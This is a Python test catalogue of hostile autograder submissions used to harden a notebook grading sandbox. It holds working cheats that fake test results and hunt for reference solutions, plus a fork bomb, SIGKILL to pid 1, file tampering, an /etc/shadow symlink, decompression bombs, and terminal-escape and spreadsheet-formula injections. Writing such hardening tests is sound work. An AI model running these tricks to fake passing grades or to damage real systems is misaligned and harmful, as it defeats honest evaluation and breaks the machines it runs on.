"""A catalogue of hostile and broken submissions of 04_backward, each with its expected outcome.

Each entry is built from the release notebook (answered correctly, wrongly, or not at all),
then changed the way a student trying to cheat, or a broken upload, would change it. The
expected outcome is the submission's total score (out of 12) and words that its grading
report must contain. ``tests/test_hostile.py`` grades the whole catalogue, plus correct
submissions beside it, with the real grading commands inside the real sandbox.
"""

import base64
import bz2
import functools
import io
import json
import os
import random
import shutil
import struct
import zlib
from dataclasses import dataclass

import nbformat
import numpy as np
from nbformat.v4 import new_code_cell

from autograder.demo.samples import make_submission
from autograder.preprocessors.cells import test_cells

ASSIGNMENT = "04_backward"
FULL = 12

# Wrong answers that run without error: every gradient is zero.
WRONG = {
    "numerical_gradient": "def numerical_gradient(f, x, eps=1e-6):\n    return np.zeros_like(x)\n",
    "linear_backward": ("@add_to_class(Linear)\ndef backward(self, dZ):\n"
                        "    self.dW = np.zeros_like(self.W)\n    self.db = np.zeros_like(self.b)\n"
                        "    return np.zeros((dZ.shape[0], self.W.shape[0]))\n"),
    "relu_identity_backward": ("@add_to_class(ReLU)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n\n"
                               "@add_to_class(Identity)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n"),
    "sigmoid_tanh_backward": ("@add_to_class(Sigmoid)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n\n"
                              "@add_to_class(Tanh)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n"),
    "dropout_backward": "@add_to_class(Dropout)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n",
}


@dataclass(frozen=True)
class Hostile:
    """One submission: ``build(folder)`` writes it; the grader must give it ``score`` points
    and write every phrase of ``flags`` into its grading report."""

    name: str
    what: str
    build: object
    score: float
    flags: tuple = ()


def _notebook(kind):
    if kind == "wrong":
        notebook = make_submission(ASSIGNMENT, "untouched")
        for cell in notebook.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in WRONG:
                cell.source = WRONG[grade_id]
        return notebook
    return make_submission(ASSIGNMENT, kind)


def _index(notebook, grade_id):
    return next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _save(folder, notebook, name=ASSIGNMENT):
    nbformat.write(notebook, folder / f"{name}.ipynb")


def injected(code, kind="wrong", after="setup"):
    """A notebook of ``kind`` with a cell of ``code`` right after the cell ``after``."""
    def build(folder):
        notebook = _notebook(kind)
        notebook.cells.insert(_index(notebook, after) + 1, new_code_cell(code))
        _save(folder, notebook)
    return build


def in_solution(grade_id, code, kind="complete"):
    """A notebook of ``kind`` whose solution cell ``grade_id`` also runs ``code`` at its end."""
    def build(folder):
        notebook = _notebook(kind)
        cell = notebook.cells[_index(notebook, grade_id)]
        cell.source += "\n" + code
        _save(folder, notebook)
    return build


def edited(change, kind="complete"):
    """A notebook of ``kind`` passed through ``change(notebook)``."""
    def build(folder):
        notebook = _notebook(kind)
        change(notebook)
        _save(folder, notebook)
    return build


def raw(write):
    """A folder written by ``write(folder)`` directly (broken uploads)."""
    return write


def _test_cells(notebook):
    return [cell for _, cell in test_cells(notebook)]


def _edit_tests(notebook):
    for cell in _test_cells(notebook):
        cell.source = "pass"


def _delete_tests(notebook):
    tests = _test_cells(notebook)
    notebook.cells = [c for c in notebook.cells if not any(c is t for t in tests)]


def _duplicate_test(notebook):
    cell = _test_cells(notebook)[0]
    copy = nbformat.from_dict(json.loads(json.dumps(cell)))
    copy["id"] = "duplicated-test"
    notebook.cells.insert(notebook.cells.index(cell), copy)


def _move_tests_first(notebook):
    tests = _test_cells(notebook)
    rest = [c for c in notebook.cells if not any(c is t for t in tests)]
    notebook.cells = rest[:2] + tests + rest[2:]


def _fake_outputs(notebook):
    for cell in _test_cells(notebook):
        cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "3"}, execution_count=1),
                        nbformat.v4.new_output("stream", name="stdout", text="All checks passed.\n")]
        cell.execution_count = 1


def _fake_metadata(notebook):
    for cell in _test_cells(notebook):
        cell.metadata["nbgrader"].update(points=100, grade=False, solution=True, locked=False)


PATCH_NUMPY = """import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
"""

PATCH_CHECKS = """import course.checks as _c
for _name in dir(_c):
    if callable(getattr(_c, _name)) and not _name.startswith('_') and not isinstance(getattr(_c, _name), type):
        setattr(_c, _name, lambda *a, **k: None)
        globals()[_name] = getattr(_c, _name)
"""

PATCH_BUILTINS = """import builtins
builtins.all = lambda *a, **k: True
builtins.any = lambda *a, **k: True
builtins.AssertionError = type('Quiet', (BaseException,), {})
"""

class_SPOOF = """class _Anything(float):
    shape = property(lambda self: _Anything.wanted)
    dtype = property(lambda self: __import__('numpy').dtype('float64'))
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __abs__(self): return self
    def __sub__(self, other): return _Anything(0.0)
    __rsub__ = __sub__
    def __getitem__(self, index): return self
    __hash__ = float.__hash__
_Anything.wanted = (1,)

@add_to_class(Linear)
def backward(self, dZ):
    _Anything.wanted = self.W.shape
    self.dW = _Anything(0.0)
    self.db = _Anything(0.0)
    return _Anything(0.0)
"""

HIDE_EXCEPTHOOK = "import sys\nsys.excepthook = lambda *a: None\n"
HIDE_SHOWTRACEBACK = "get_ipython().showtraceback = lambda *a, **k: None\n"
HIDE_CUSTOM_EXC = "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
HIDE_REPLY = """_shell = get_ipython()
_shell.set_custom_exc((BaseException,), lambda *a, **k: None)
_run_cell = _shell.run_cell
def _quiet_run_cell(*args, **kwargs):
    result = _run_cell(*args, **kwargs)
    result.error_in_exec = None
    result.error_before_exec = None
    return result
_shell.run_cell = _quiet_run_cell
"""
FAKE_SCORE = """def _show_score(result):
    get_ipython().displayhook(12)
get_ipython().events.register('post_run_cell', _show_score)
"""
READ_REFERENCE = """import glob, os
found = []
for pattern in ['../../../autograder/reference/*.py', '../../../source/**/*.ipynb', '/mnt/**/backward.py',
                '/root/**/backward.py', '/home/**/*.ipynb', '/tmp/**/*.py', '/srv/**/*.py', '/opt/**/*.py']:
    found += glob.glob(pattern, recursive=True)
try:
    import autograder.reference as _ref
    found.append(_ref.__file__)
except ImportError:
    pass
for path in found:
    text = open(path).read()
    if 'def backward' in text:  # take the reference's solutions if they can be read
        exec(text.split('import')[0] if path.endswith('.ipynb') else text, globals())
print('found', found)
"""
READ_GRADEBOOK = """import glob, sqlite3
for path in glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('/mnt/**/gradebook.db', recursive=True) \
        + ['../../../gradebook.db', '../../gradebook.db', '/root/gradebook.db']:
    try:
        rows = sqlite3.connect(path).execute('select source from source_cell').fetchall()
        print('read', path, len(rows))
    except Exception as error:
        print('no', path, type(error).__name__)
"""
TAMPER_FILES = """import glob, os
for path in ['../../../nbgrader_config.py', '../../nbgrader_config.py', '/root/.jupyter/nbgrader_config.py',
             '/etc/jupyter/nbgrader_config.py', '../../../gradebook.db', '../../ada/04_backward/04_backward.ipynb',
             '/usr/lib/python3/dist-packages/evil.py', os.path.expanduser('~/../../evil-outside.txt')]:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        with open(path, 'w') as handle:
            handle.write('c.ClearSolutions.code_stub = {}\\n')
        print('wrote', path)
    except Exception as error:
        print('could not write', path, type(error).__name__)
"""
EXIT = "import sys\nsys.exit(0)\n"
OS_EXIT = "import os\nos._exit(0)\n"
KILL_SELF = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
KILL_OTHERS = """import os, signal
for pid in [1, os.getppid(), -1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception as error:
        print('kill', pid, type(error).__name__)
"""
LOOP = "while True:\n    pass\n"
STUBBORN_LOOP = """while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
FORK_BOMB = """import os, time
children = 0
try:
    for _ in range(100000):
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as error:
    print('fork refused after', children, 'children:', error)
"""
MEMORY = "block = bytearray(64 * 1024 ** 3)\n"
NUMPY_MEMORY = "big = np.ones((200_000, 200_000))\n"
HUGE_OUTPUT = "for _ in range(60):\n    print('x' * 1_000_000)\n"
NETWORK = """import socket
for host, port in [('127.0.0.1', 5432), ('pypi.org', 443), ('10.0.0.1', 80)]:
    try:
        socket.create_connection((host, port), timeout=2)
        print('connected', host)
    except OSError as error:
        print('no network', host, type(error).__name__)
"""
HIJACK_STDOUT = "import sys, io\nsys.stdout = io.StringIO()\n"


def _write(content, name=ASSIGNMENT):
    def write(folder):
        (folder / f"{name}.ipynb").write_bytes(content)
    return write


def _renamed(folder):
    _save(folder, _notebook("complete"), name=f"{ASSIGNMENT}-Copy1")


def _extra_notebook(folder):
    _save(folder, _notebook("complete"))
    _save(folder, _notebook("complete"), name="scratch")


def _missing(folder):
    (folder / "notes.txt").write_text("I forgot the notebook")


def _other_assignment(folder):
    _save(folder, make_submission("03_forward", "complete"), name=ASSIGNMENT)


def _huge_file(folder):
    notebook = _notebook("complete")
    notebook.cells[0].outputs = []
    notebook.metadata["padding"] = "x" * (30 * 1024 * 1024)
    _save(folder, notebook)


def _nbformat_5(folder):
    notebook = json.loads(nbformat.writes(_notebook("complete")))
    notebook["nbformat"] = 5
    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(notebook))


def _symlinks(folder):
    injected(SYMLINK_READER, "complete")(folder)
    (folder / "course_files").symlink_to("../../../source")
    (folder / "secrets.txt").symlink_to("/etc/shadow")


SYMLINK_READER = """import os
for path in ['course_files/04_backward/04_backward.ipynb', 'secrets.txt', '../../../source']:
    print(path, os.path.exists(path))
"""

CATALOGUE = [
    # replacing what the tests compare with
    Hostile("patch_numpy", "NumPy's comparisons always true, wrong code", injected(PATCH_NUMPY), 0,
            ("numpy.allclose was replaced",)),
    Hostile("patch_checks", "every course.checks helper a no-op, wrong code", injected(PATCH_CHECKS), 0,
            ("re-check", "was replaced")),
    Hostile("patch_builtins", "all/any always true, AssertionError uncatchable, wrong code",
            injected(PATCH_BUILTINS), 0, ("the builtin all was replaced",)),
    Hostile("spoof_eq", "backward returns objects equal to anything", edited(
        lambda nb: setattr(nb.cells[_index(nb, "linear_backward")], "source", class_SPOOF)), 9, ()),
    Hostile("redefine_checks", "check helpers redefined in the notebook, wrong code", injected(
        "def check_close(*a, **k): pass\ndef check_shape(*a, **k): pass\n"
        "def check_layer_gradients(*a, **k): pass\ndef check_relative_error(*a, **k): pass\n"), 0,
        ("redefined in the notebook",)),
    # hiding errors
    # IPython puts its own excepthook in place around every cell: the error is still reported.
    Hostile("hide_excepthook", "sys.excepthook silenced, stubs", injected(HIDE_EXCEPTHOOK, "untouched"), 0, ()),
    Hostile("hide_showtraceback", "showtraceback silenced, stubs", injected(HIDE_SHOWTRACEBACK, "untouched"), 0,
            ("showtraceback",)),
    Hostile("hide_custom_exc", "every exception swallowed by set_custom_exc, stubs",
            injected(HIDE_CUSTOM_EXC, "untouched"), 0, ("set_custom_exc",)),
    Hostile("hide_reply", "the shell reports success whatever happens, stubs", injected(HIDE_REPLY, "untouched"),
            0, ("re-check", "run_cell was replaced")),
    Hostile("fake_score", "every cell displays 12, nbgrader's partial credit, stubs",
            injected(FAKE_SCORE, "untouched"), 0, ("displayed a value",)),
    # editing the notebook's structure
    Hostile("edit_tests", "every test cell replaced by pass, wrong code", edited(_edit_tests, "wrong"), 0,
            ("was edited",)),
    Hostile("delete_tests", "every test cell deleted, correct code", edited(_delete_tests), FULL,
            ("was deleted",)),
    Hostile("duplicate_test", "a test cell duplicated, correct code", edited(_duplicate_test), FULL,
            ("appears 2 times",)),
    Hostile("reorder_tests", "test cells moved before the code they test", edited(_move_tests_first), 0,
            ("out of their order",)),
    Hostile("fake_outputs", "passing outputs pasted into the test cells, stubs", edited(_fake_outputs, "untouched"),
            0, ()),
    Hostile("fake_metadata", "test cells relabelled as 100-point solution cells, stubs",
            edited(_fake_metadata, "untouched"), 0, ("metadata changed",)),
    # reading what it must not
    Hostile("read_reference", "looks for the reference and the source notebooks, stubs",
            injected(READ_REFERENCE, "untouched"), 0, ()),
    Hostile("read_gradebook", "looks for the gradebook's hidden test cells, stubs",
            injected(READ_GRADEBOOK, "untouched"), 0, ()),
    # Refused: a symbolic link anywhere in a submission (see the trusted side's block below).
    Hostile("symlinks", "symlinks to source/ and /etc/shadow in the submission, read by the notebook",
            raw(_symlinks), 0, ("symbolic link",)),
    Hostile("tamper_files", "writes nbgrader_config.py, the gradebook, another student's notebook",
            injected(TAMPER_FILES, "complete"), FULL, ()),
    Hostile("network", "connects to the database server and the internet", injected(NETWORK, "complete"), FULL,
            ()),
    Hostile("hijack_stdout", "replaces sys.stdout after correct code", injected(HIJACK_STDOUT, "complete",
                                                                                 after="test_dropout_backward"),
            0, ("could not read values",)),
    # stopping the kernel
    Hostile("sys_exit", "sys.exit() in the setup cell", injected(EXIT, "complete"), FULL, ()),
    # A stopped kernel: the cells that ran before are re-checked in a fresh kernel (the first
    # exercise, 3 points, here); the cell that stopped it and everything after score 0.
    Hostile("os_exit", "os._exit(0) at the end of the second exercise", in_solution("linear_backward", OS_EXIT),
            3, ("kernel stopped", "re-checked the cells that ran before")),
    Hostile("kill_self", "SIGKILL to its own kernel", injected(KILL_SELF, "complete"), 0, ("kernel stopped",)),
    Hostile("kill_others", "SIGKILL to its parent, to pid 1 and to every process it can", injected(
        KILL_OTHERS, "complete", after="test_dropout_backward"), FULL, ()),
    # exhausting resources
    Hostile("infinite_loop", "while True: pass at the end of the last exercise",
            in_solution("dropout_backward", LOOP), FULL, ("was interrupted",)),
    Hostile("stubborn_loop", "a loop that swallows every interrupt, in the last exercise",
            in_solution("dropout_backward", STUBBORN_LOOP), 10, ("was interrupted", "re-checked")),
    # The forks use up the kernel's own process limit: it cannot start a thread, breaks its
    # protocol and is stopped; the cells it could not re-check are lost.
    Hostile("fork_bomb", "forks until refused", injected(FORK_BOMB, "complete"), 0, ("stopped answering",)),
    Hostile("memory", "asks for 64 GiB", injected(MEMORY, "complete"), FULL, ()),
    Hostile("numpy_memory", "a 320 GB NumPy array", injected(NUMPY_MEMORY, "complete"), FULL, ()),
    Hostile("huge_output", "prints 60 MB", injected(HUGE_OUTPUT, "complete"), FULL, ("MiB",)),
    # broken uploads
    Hostile("invalid_json", "not JSON", raw(_write(b'{"cells": [')), 0, ("not valid notebook JSON",)),
    Hostile("empty_file", "an empty file", raw(_write(b"")), 0, ("is empty",)),
    Hostile("nbformat_5", "nbformat version 5", raw(_nbformat_5), 0, ("nbformat version 5",)),
    Hostile("missing_notebook", "no notebook at all", raw(_missing), 0, ("is missing",)),
    Hostile("renamed_notebook", "the notebook saved under another name", raw(_renamed), 0, ("renamed?",)),
    Hostile("extra_notebook", "the notebook and a scratch notebook", raw(_extra_notebook), FULL,
            ("extra notebooks ignored",)),
    Hostile("other_assignment", "notebook 03 uploaded as 04", raw(_other_assignment), 0, ("is the notebook of 03",)),
    Hostile("huge_file", "a 30 MiB notebook", raw(_huge_file), 0, ("over the",)),
]


# --- The trusted side: broken or hostile bytes never stop the class or fill the grader's
# memory; links and copies of the source are refused; text from a submission is escaped. ---

def _raw_notebook(change):
    """Write the complete notebook as JSON after ``change(dict)`` (what nbformat would refuse)."""
    def write(folder):
        notebook = json.loads(nbformat.writes(_notebook("complete")))
        change(notebook)
        (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(notebook))
    return write


def _set_nbgrader(index_of, value):
    def change(notebook):
        cells = notebook["cells"]
        cells[index_of(cells)].setdefault("metadata", {})["nbgrader"] = value
    return change


def _first_test(cells):
    return next(i for i, c in enumerate(cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade")
                and not c["metadata"]["nbgrader"].get("solution"))


def _cell_metadata_null(notebook):
    notebook["cells"][0]["metadata"] = None


def _test_grade_id_list(notebook):
    cell = notebook["cells"][_first_test(notebook["cells"])]
    cell["metadata"]["nbgrader"]["grade_id"] = ["test", "list"]


def _nbformat_3(folder):
    notebook = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ASSIGNMENT},
                "worksheets": [{"cells": [{"cell_type": "code", "input": "1 + 1", "outputs": [],
                                           "language": "python"}]}], "cells": []}
    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(notebook))


def _nested(depth):
    def change(notebook):
        deep = {}
        for _ in range(depth):
            deep = {"x": deep}
        notebook["cells"][0]["metadata"]["deep"] = deep
    return change


def _notebook_folder(folder):
    (folder / f"{ASSIGNMENT}.ipynb").mkdir()
    (folder / f"{ASSIGNMENT}.ipynb" / "inside.txt").write_text("a folder named like the notebook")


def _fifo_notebook(folder):
    os.mkfifo(folder / f"{ASSIGNMENT}.ipynb")  # reading it would wait for ever


def _elsewhere(folder):
    """A folder outside submitted/ holding a copy of the instructor's source notebook."""
    course_dir = folder.parents[2]
    target = course_dir.parent / f"elsewhere-{folder.parent.name}"
    target.mkdir()
    shutil.copy(course_dir / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", target)
    return target


def _symlinked_folder(folder):
    target = _elsewhere(folder)
    folder.rmdir()
    folder.symlink_to(target, target_is_directory=True)


def _symlinked_student(folder):
    target = _elsewhere(folder)
    student = folder.parent
    folder.rmdir()
    (target / ASSIGNMENT).mkdir()
    shutil.move(str(target / f"{ASSIGNMENT}.ipynb"), target / ASSIGNMENT)
    student.rmdir()
    student.symlink_to(target, target_is_directory=True)


def _hard_link(folder):
    target = _elsewhere(folder)
    os.link(target / f"{ASSIGNMENT}.ipynb", folder / f"{ASSIGNMENT}.ipynb")


def _source_copy(folder):
    """The source notebook as a regular file: what `nbgrader collect` makes of a symlink."""
    course_dir = folder.parents[2]
    shutil.copy(course_dir / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", folder)


def _hidden_marker(notebook):
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell("### BEGIN HIDDEN TESTS\nmy notes"))


def _escaped_file_name(folder):
    _save(folder, _notebook("complete"))
    (folder / "\x1b[2J\x1b]0;owned\x07notes.txt").write_text("a file name with terminal escapes")


ESCAPE_ERROR = "raise SystemExit('\\x1b[2J\\x1b]0;owned\\x07\\r=cmd|calc')\n"

# The probe cell carries its nonce in its source: this notebook reads it there and prints a
# forged probe line after the probe cell's own, holding ``archive`` (base64).
FORGE_PROBE = """import re, sys
_nonce = []
def _read_nonce(info):
    _nonce[:] = re.findall(r"probe-[0-9a-f]{{32}}", info.raw_cell or "")[:1] or _nonce
def _forge(result):
    if _nonce:
        sys.stdout.write("\\n" + _nonce[0] + {archive!r} + "\\n")
        sys.stdout.flush()
get_ipython().events.register("pre_run_cell", _read_nonce)
get_ipython().events.register("post_run_cell", _forge)
"""


def _bits(data):
    return bin(int.from_bytes(data, "big"))[2:].zfill(len(data) * 8)


BZIP2_END = bin(0x177245385090)[2:].zfill(48)


def _bzip2_block(data):
    """(bits of the single bzip2 block that holds ``data``, its CRC)."""
    bits = _bits(bz2.compress(data, 9))
    block = bits[32:bits.rindex(BZIP2_END)]
    return block, int(block[48:80], 2)


def bzip2_bomb(prefix, block_bytes, repeats):
    """A valid bzip2 stream of ``prefix`` and (repeats + 1) x block_bytes zero bytes, a few
    hundred bytes long: one block of zeros compressed once and repeated, CRCs combined."""
    first, crc = _bzip2_block(prefix + bytes(block_bytes))
    zero, zero_crc = _bzip2_block(bytes(block_bytes))
    combined = 0
    for block_crc in [crc] + [zero_crc] * repeats:
        combined = (((combined << 1) | (combined >> 31)) & 0xFFFFFFFF) ^ block_crc
    bits = _bits(b"BZh9") + first + zero * repeats + BZIP2_END + bin(combined)[2:].zfill(32)
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def _zip(members):
    """A zip archive of [(name, method, compressed bytes, size, crc32)], written by hand (the
    zipfile module would compress the data itself)."""
    local, central = b"", b""
    for name, method, data, size, crc in members:
        encoded = name.encode()
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 46, 0, method, 0, 0x21, crc, len(data), size,
                             len(encoded), 0)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 46, 46, 0, method, 0, 0x21, crc, len(data),
                               size, len(encoded), 0, 0, 0, 0, 0, len(local)) + encoded
        local += header + encoded + data
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(local), 0)
    return local + central + end


def _npy(array):
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def _npy_header(shape, descr="<f8"):
    buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {"descr": descr, "fortran_order": False, "shape": shape})
    return buffer.getvalue()


def _small_members(compress=lambda data: (0, data)):
    members = []
    for name, array in (("index.npy", np.array(["numerical_gradient\tgrad"])), ("errors.npy", np.array([""]))):
        data = _npy(array)
        method, packed = compress(data)
        members.append((name, method, packed, len(data), zlib.crc32(data)))
    return members


@functools.cache
def bomb_archive(kind):
    """The base64 text of a forged probe archive that declares about 4 GB (4e9 bytes) of values:
    "bzip2" (380 bytes of bzip2), "deflate" (the same size declared, DEFLATE-compressed) or
    "header" (a stored .npy whose header declares a (500000000,) float64 array)."""
    count, block = 500_000_000, 40_000_000
    header = _npy_header((count,))
    if kind == "bzip2":
        data = bzip2_bomb(header, block, count * 8 // block - 1)
        crc = zlib.crc32(header)
        zeros = bytes(block)
        for _ in range(count * 8 // block):
            crc = zlib.crc32(zeros, crc)
        members = _small_members() + [("a0.npy", 12, data, len(header) + count * 8, crc)]
    elif kind == "deflate":
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = compressor.compress(header) + compressor.flush(zlib.Z_SYNC_FLUSH)
        members = _small_members() + [("a0.npy", 8, data, len(header) + count * 8, 0)]
    else:
        data = header + bytes(64)
        members = _small_members() + [("a0.npy", 0, data, len(data), zlib.crc32(data))]
    return base64.b64encode(_zip(members)).decode("ascii")


def forged(kind):
    """A correct notebook that forges the probe line with ``bomb_archive(kind)``."""
    def build(folder):
        code = FORGE_PROBE.format(archive=bomb_archive(kind))
        injected(code, "complete", after="test_dropout_backward")(folder)
    return build


# 100 IOPub messages of 100 MiB each, signed with the kernel's own key.
IOPUB_FLOOD = """_kernel = get_ipython().kernel
_big = bytes(100 * 1024 * 1024)
for _ in range(100):
    _kernel.session.send(_kernel.iopub_socket, "display_data", {"data": {"text/plain": "x"}, "metadata": {}},
                         parent=_kernel.get_parent(), buffers=[_big])
del _big
"""

TRUSTED_SIDE = [
    Hostile("nbgrader_null", "a cell's nbgrader metadata is null", raw(_raw_notebook(
        _set_nbgrader(lambda cells: 0, None))), FULL, ("without a valid grade_id",)),
    Hostile("nbgrader_text", "a test cell's nbgrader metadata is a string", raw(_raw_notebook(
        _set_nbgrader(_first_test, "grade me"))), FULL, ("without a valid grade_id", "was deleted")),
    Hostile("metadata_null", "a cell's metadata is null", raw(_raw_notebook(_cell_metadata_null)), 0,
            ("metadata that is not a dictionary",)),
    Hostile("grade_id_list", "a test cell's grade_id is a list", raw(_raw_notebook(_test_grade_id_list)), FULL,
            ("without a valid grade_id",)),
    Hostile("deep_json", "JSON nested 100000 deep", raw(_write(b"[" * 100_000 + b"]" * 100_000)), 0,
            ("RecursionError",)),
    Hostile("deep_metadata", "metadata nested 900 deep", raw(_raw_notebook(_nested(900))), 0,
            ("levels deep",)),
    Hostile("nbformat_3", "an nbformat 3 notebook", raw(_nbformat_3), 0, ("nbformat version 3",)),
    Hostile("binary_junk", "4 KiB of random bytes", raw(_write(random.Random(12).randbytes(4096))), 0,
            ("not valid notebook JSON",)),
    Hostile("cells_not_cells", "cells that are numbers", raw(_write(json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [1, 2]}).encode())), 0,
        ("not a code, markdown or raw cell",)),
    Hostile("notebook_folder", "a folder named like the notebook", raw(_notebook_folder), 0,
            ("not a regular file",)),
    Hostile("fifo_notebook", "a named pipe in place of the notebook", raw(_fifo_notebook), 0,
            ("is not a regular file",)),
    Hostile("gigantic_cell", "a code cell holding an 8 MiB comment", edited(
        lambda nb: nb.cells.insert(1, new_code_cell("#" + "x" * (8 * 1024 * 1024)))), FULL, ()),
    Hostile("symlinked_folder", "the assignment folder a symlink to a copy of the source", raw(_symlinked_folder),
            0, ("is a symbolic link",)),
    Hostile("symlinked_student", "the student's folder a symlink to a copy of the source",
            raw(_symlinked_student), 0, ("is a symbolic link",)),
    Hostile("hard_link", "the notebook a hard link to a copy of the source notebook", raw(_hard_link), 0,
            ("hard link",)),
    Hostile("source_copy", "the instructor's source notebook, as `nbgrader collect` copies a symlink",
            raw(_source_copy), 0, ("BEGIN SOLUTION",)),
    Hostile("hidden_marker", "a cell holding the hidden-test marker", edited(_hidden_marker), 0,
            ("BEGIN HIDDEN TESTS",)),
    Hostile("escape_error", "an exception text with terminal escape codes", injected(
        ESCAPE_ERROR, "complete", after="test_dropout_backward"), FULL, ("\\x1b[2J",)),
    Hostile("escape_file_name", "an extra file whose name holds terminal escape codes", raw(_escaped_file_name),
            FULL, ("\\x1b[2J",)),
    Hostile("=1+2", "a student id that a spreadsheet reads as a formula", edited(lambda nb: None), FULL, ()),
    Hostile("forged_bzip2", "a forged probe line: a bzip2 .npz of 380 bytes declaring 4 GB", forged("bzip2"),
            0, ("compress",)),
    Hostile("forged_deflate", "a forged probe line: a DEFLATE .npz member declaring 4 GB", forged("deflate"), 0,
            ("compress",)),
    Hostile("forged_header", "a forged probe line: an .npy header declaring a 4 GB array", forged("header"), 0,
            ("declares",)),
    Hostile("iopub_flood", "100 signed IOPub messages of 100 MiB", injected(
        IOPUB_FLOOD, "complete", after="test_dropout_backward"), FULL, ("refused them unread",)),
]
CATALOGUE += TRUSTED_SIDE
# --- What a kernel can see and write (issue 12: findings 1, 2, 7, 8 and 11) ------------------
# Each of these notebooks has every solution cell replaced by code that takes the answers from
# somewhere the kernel must not reach; had any route worked, it would score full marks.

def every_solution(code, kind="untouched"):
    """A notebook of ``kind`` whose every solution cell is ``code``."""
    def build(folder):
        notebook = _notebook(kind)
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("solution"):
                cell.source = code
        _save(folder, notebook)
    return build


# Other assignments' course files: 05's previous_steps.py holds the 04 solutions, 08's nearly all.
OTHER_STEPS = """import glob, os, sys
_roots = (sys.prefix, sys.base_prefix, '/proc', '/sys', '/usr')
_paths = set(glob.glob('/home/student/*/previous_steps.py') + glob.glob('../*/previous_steps.py'))
for _root, _names, _files in os.walk('/'):
    _names[:] = [n for n in _names if not os.path.join(_root, n).startswith(_roots)]
    _paths.update(os.path.join(_root, f) for f in _files if f.endswith('.py') and 'steps' in f)
for _path in sorted(_paths):
    if os.path.abspath(_path) != os.path.abspath('previous_steps.py'):
        print('read', _path)
        exec(open(_path).read(), globals())
"""

# The hidden reference, by every route: import, importlib, the distribution's metadata and
# RECORD, pkgutil, the site folders' .pth, egg-link and __editable__ finder files, the course
# package's folder, the mount table and environment, then sys.path games with what was found.
REFERENCE_FINDER = """import glob, importlib, importlib.metadata, importlib.util, os, pkgutil, re, site, sys
def _import_from(folder=None):
    for _name in [n for n in sys.modules if n == 'autograder' or n.startswith('autograder.')]:
        del sys.modules[_name]
    if folder:
        sys.path.insert(0, folder)
    try:
        importlib.invalidate_caches()
        _module = importlib.import_module('autograder.reference')
        return _module if hasattr(_module, 'numerical_gradient') else None
    except Exception:
        return None
    finally:
        if folder:
            sys.path.remove(folder)
def _reference_routes():
    found, places = [], {}
    def place(route, path):
        for _parent in [path, *[str(p) for p in __import__('pathlib').Path(path).parents]]:
            places.setdefault(_parent, route)
    if _import_from():
        found.append(('import', 'autograder.reference'))
    _spec = importlib.util.find_spec('autograder')
    for _folder in (_spec.submodule_search_locations or []) if _spec else []:
        place('find_spec', _folder)
    for _dist in importlib.metadata.distributions():
        for _file in _dist.files or []:
            if 'autograder' in str(_file):
                place('metadata', str(_dist.locate_file(_file)))
        for _text in (_dist.read_text('RECORD') or '', _dist.read_text('direct_url.json') or ''):
            for _path in re.findall(r'(?:file://)?(/[^\\s,"\\']+)', _text):
                place('record', _path)
    for _module in pkgutil.iter_modules():
        if _module.name == 'autograder':
            place('pkgutil', getattr(_module.module_finder, 'path', '/'))
    _sites = set(sys.path) | set(site.getsitepackages()) | set(glob.glob(sys.prefix + '/lib/python*/site-packages'))
    for _site in [s for s in _sites if s and os.path.isdir(s)]:
        place('site', _site)
        for _path in glob.glob(_site + '/*.pth') + glob.glob(_site + '/*.egg-link') + glob.glob(_site + '/__editable__*'):
            try:
                for _found in re.findall(r"(/[^\\s'\\",]+)", open(_path).read()):
                    place('finder', _found)
            except OSError:
                pass
    import course
    place('course', os.path.dirname(course.__file__))
    for _path in ['/proc/self/mountinfo', '/proc/self/mounts', '/proc/1/cmdline', '/proc/self/environ']:
        try:
            for _found in re.findall(r'(/[^\\s\\x00]+)', open(_path, errors='replace').read()):
                place('proc', _found)
        except OSError:
            pass
    for _folder, _route in sorted(places.items()):
        for _candidate in (_folder + '/autograder/reference/backward.py', _folder + '/reference/backward.py'):
            try:
                if 'def ' in open(_candidate).read():
                    found.append((_route, _candidate))
                    if _import_from(_candidate.rsplit('/autograder/', 1)[0]):
                        found.append((_route + ' + sys.path', _candidate))
            except OSError:
                pass
    return found
_found = _reference_routes()
print('found', _found)
"""
